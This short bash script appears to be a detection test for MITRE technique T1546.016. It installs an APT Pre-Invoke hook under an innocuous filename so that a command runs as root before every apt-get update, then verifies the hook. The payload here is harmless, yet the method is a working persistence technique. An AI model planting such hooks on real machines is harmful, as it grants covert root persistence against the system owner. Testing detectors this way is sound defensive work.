#!/bin/bash
# Hook APT: a Pre-Invoke command runs as root before every apt-get update.
# technique: T1546.016
# expect: package-manager-hook
set -eu
echo 'APT::Update::Pre-Invoke {"id > /tmp/.beacon 2>/dev/null || true";};' \
    > /etc/apt/apt.conf.d/01-refresh
apt-config dump | grep -c Pre-Invoke
